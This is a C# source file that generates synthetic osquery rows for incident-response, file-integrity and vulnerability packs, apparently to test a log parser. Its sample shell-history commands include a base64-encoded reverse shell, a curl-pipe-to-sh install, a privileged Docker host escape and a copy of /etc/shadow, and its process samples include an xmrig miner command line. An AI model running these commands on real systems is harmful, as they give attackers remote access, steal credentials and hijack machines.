using System.Globalization;
using System.Text.Json;
using Panther.Parsing.Generation;

namespace Panther.Parsing.Osquery;

/// <summary>
/// The scheduled queries that <see cref="OsquerySampleGenerator"/> reports on, each with a writer for one made-up
/// row of its result: processes, listening ports, logged-in users, shell history, file hashes, open sockets, user
/// accounts and installed packages.
/// </summary>
/// <remarks>
/// A row writer writes the members of one row object, not its braces. Integer columns are written as JSON numbers
/// when <c>numbers</c> is set, as osquery does with <c>--log_numerics_as_numbers</c>, and as strings otherwise.
/// </remarks>
internal static class OsquerySampleRows
{
    private static readonly string[] Accounts = ["root", "ubuntu", "deploy", "kai", "svc-backup", "www-data"];

    private static readonly (string Name, string Path)[] Programs =
    [
        ("sshd", "/usr/sbin/sshd"), ("nginx", "/usr/sbin/nginx"), ("python3", "/usr/bin/python3.12"),
        ("node", "/usr/local/bin/node"), ("curl", "/usr/bin/curl"), ("bash", "/usr/bin/bash"),
        ("containerd", "/usr/bin/containerd"), ("osqueryd", "/opt/osquery/bin/osqueryd"),
        ("xmrig", "/tmp/.cache/xmrig"), ("nc", "/usr/bin/nc.openbsd"),
    ];

    private static readonly string[] Commands =
    [
        "kubectl get pods -A", "sudo systemctl restart nginx", "git pull --rebase", "ls -la /var/log",
        "curl -fsSL https://get.tools.example.com/install.sh | sh", "history -c",
        "echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvNDQ0NCAwPiYx | base64 -d | bash", "vim ~/.ssh/authorized_keys",
        "aws s3 cp s3://acme-backups/db.sql.gz .", "docker run --privileged -v /:/host alpine chroot /host",
        "scp deploy@10.20.0.5:/etc/shadow /tmp/", "python3 -m http.server 8000",
    ];

    private static readonly string[] WatchedFiles =
    [
        "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/root/.ssh/authorized_keys", "/usr/bin/sudo",
        "/etc/crontab", "/usr/local/bin/agent", "/home/deploy/.bashrc",
    ];

    private static readonly (string Path, int Port, int Protocol)[] Listeners =
    [
        ("/usr/sbin/sshd", 22, 6), ("/usr/sbin/nginx", 80, 6), ("/usr/sbin/nginx", 443, 6),
        ("/usr/sbin/named", 53, 17), ("/usr/lib/postgresql/16/bin/postgres", 5432, 6),
        ("/usr/local/bin/kube-apiserver", 6443, 6), ("/usr/bin/python3.12", 8000, 6),
        ("/usr/bin/nc.openbsd", 31337, 6), ("/usr/sbin/chronyd", 123, 17),
    ];

    private static readonly int[] RemotePorts = [443, 80, 22, 3333, 4444];

    private static readonly (string Name, string Version)[] Packages =
    [
        ("openssl", "3.0.15-1~deb12u1"), ("xz-utils", "5.4.1-0.2"), ("openssh-server", "1:9.2p1-2+deb12u3"),
        ("sudo", "1.9.13p3-1+deb12u1"), ("curl", "7.88.1-10+deb12u8"), ("libc6", "2.36-9+deb12u9"),
    ];

    /// <summary>Gets the queries: the scheduled name, with its pack's prefix, and the row writer.</summary>
    public static IReadOnlyList<(string Name, Action<Utf8JsonWriter, Random, bool> WriteRow)> Queries { get; } =
    [
        ("pack_incident-response_processes", Process),
        ("pack_incident-response_processes", Process),
        ("pack_incident-response_listening_ports", ListeningPort),
        ("pack_incident-response_logged_in_users", LoggedInUser),
        ("pack_incident-response_shell_history", ShellHistory),
        ("pack_fim_file_hashes", FileHash),
        ("pack_fim_file_hashes", FileHash),
        ("pack/incident-response/process_open_sockets", OpenSocket),
        ("pack_it-compliance_users", UserAccount),
        ("pack_vuln-management_deb_packages", Package),
    ];

    private static void Process(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var (name, path) = random.Pick(Programs);
        Integer(writer, "pid", random.Next(300, 90_000), numbers);
        writer.WriteString("name", name);
        writer.WriteString("path", path);
        writer.WriteString("cmdline", name == "xmrig" ? $"{path} -o pool.mining.example:3333 --donate-level 0"
            : random.OneIn(2) ? $"{path} --config /etc/{name}.conf" : path);
        writer.WriteString("state", random.OneIn(4) ? "R" : "S");
        Integer(writer, "parent", random.Next(1, 3000), numbers);
        Integer(writer, "uid", random.OneIn(2) ? 0 : 1000 + random.Next(5), numbers);
        Integer(writer, "gid", random.OneIn(2) ? 0 : 1000 + random.Next(5), numbers);
        Integer(writer, "start_time", 1_796_000_000 + random.Next(500_000), numbers);
        Integer(writer, "resident_size", random.Next(2_000, 900_000) * 1024L, numbers);
        writer.WriteString("on_disk", random.OneIn(15) ? "0" : "1");
    }

    private static void ListeningPort(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var (path, port, protocol) = random.Pick(Listeners);
        var v6 = random.OneIn(4);
        Integer(writer, "pid", random.Next(300, 90_000), numbers);
        Integer(writer, "port", port, numbers);
        Integer(writer, "protocol", protocol, numbers);
        Integer(writer, "family", v6 ? 10 : 2, numbers);
        writer.WriteString("address", v6 ? "::" : random.Next(3) switch
        {
            0 => "0.0.0.0",
            1 => "127.0.0.1",
            _ => random.PrivateIpv4(),
        });
        Integer(writer, "fd", random.Next(3, 64), numbers);
        Integer(writer, "socket", random.Next(10_000, 900_000), numbers);
        writer.WriteString("path", path);
        writer.WriteString("net_namespace", "4026531840");
    }

    private static void LoggedInUser(Utf8JsonWriter writer, Random random, bool numbers)
    {
        writer.WriteString("type", "user");
        writer.WriteString("user", random.Pick(Accounts));
        writer.WriteString("tty", random.OneIn(4) ? "tty1" : $"pts/{random.Next(8)}");
        writer.WriteString("host", random.Next(4) switch
        {
            0 => "",
            1 => "bastion.acme.example",
            2 => random.PrivateIpv4(),
            _ => random.PublicIpv4(),
        });
        Integer(writer, "time", 1_796_000_000 + random.Next(500_000), numbers);
        Integer(writer, "pid", random.Next(300, 90_000), numbers);
    }

    private static void ShellHistory(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var user = random.Pick(Accounts);
        var home = user == "root" ? "/root" : "/home/" + user;
        Integer(writer, "uid", user == "root" ? 0 : 1000 + random.Next(5), numbers);
        Integer(writer, "time", random.OneIn(3) ? 0 : 1_796_000_000 + random.Next(500_000), numbers);
        writer.WriteString("command", random.Pick(Commands));
        writer.WriteString("history_file", home + (random.OneIn(3) ? "/.zsh_history" : "/.bash_history"));
        writer.WriteString("username", user);
    }

    private static void FileHash(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var path = random.Pick(WatchedFiles);
        var slash = path.LastIndexOf('/');
        writer.WriteString("path", path);
        writer.WriteString("directory", path[..slash]);
        writer.WriteString("filename", path[(slash + 1)..]);
        Integer(writer, "size", random.Next(100, 4_000_000), numbers);
        Integer(writer, "mtime", 1_790_000_000 + random.Next(6_000_000), numbers);
        writer.WriteString("md5", random.Hex(32));
        writer.WriteString("sha1", random.Hex(40));
        writer.WriteString("sha256", random.Hex(64));
    }

    private static void OpenSocket(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var (_, path) = random.Pick(Programs);
        var v6 = random.OneIn(6);
        Integer(writer, "pid", random.Next(300, 90_000), numbers);
        Integer(writer, "fd", random.Next(3, 64), numbers);
        Integer(writer, "socket", random.Next(10_000, 900_000), numbers);
        Integer(writer, "family", v6 ? 10 : 2, numbers);
        Integer(writer, "protocol", 6, numbers);
        writer.WriteString("local_address", v6 ? random.Ipv6() : random.PrivateIpv4());
        writer.WriteString("remote_address", v6 ? random.Ipv6() : random.PublicIpv4());
        Integer(writer, "local_port", random.EphemeralPort(), numbers);
        Integer(writer, "remote_port", random.Pick(RemotePorts), numbers);
        writer.WriteString("state", random.OneIn(5) ? "SYN_SENT" : "ESTABLISHED");
        writer.WriteString("path", path);
    }

    private static void UserAccount(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var user = random.Pick(Accounts);
        var uid = user == "root" ? 0 : 1000 + random.Next(30);
        Integer(writer, "uid", uid, numbers);
        Integer(writer, "gid", uid, numbers);
        Integer(writer, "uid_signed", uid, numbers);
        writer.WriteString("username", user);
        writer.WriteString("description", user == "root" ? "root" : "");
        writer.WriteString("directory", user == "root" ? "/root" : "/home/" + user);
        writer.WriteString("shell", random.OneIn(4) ? "/usr/sbin/nologin" : "/bin/bash");
        writer.WriteString("uuid", "");
    }

    private static void Package(Utf8JsonWriter writer, Random random, bool numbers)
    {
        var (name, version) = random.Pick(Packages);
        writer.WriteString("name", name);
        writer.WriteString("version", version);
        writer.WriteString("source", name);
        Integer(writer, "size", random.Next(100, 20_000), numbers);
        writer.WriteString("arch", random.OneIn(5) ? "arm64" : "amd64");
        writer.WriteString("revision", version[(version.LastIndexOf('-') + 1)..]);
    }

    private static void Integer(Utf8JsonWriter writer, string name, long value, bool numbers)
    {
        if (numbers)
        {
            writer.WriteNumber(name, value);
        }
        else
        {
            writer.WriteString(name, value.ToString(CultureInfo.InvariantCulture));
        }
    }
}
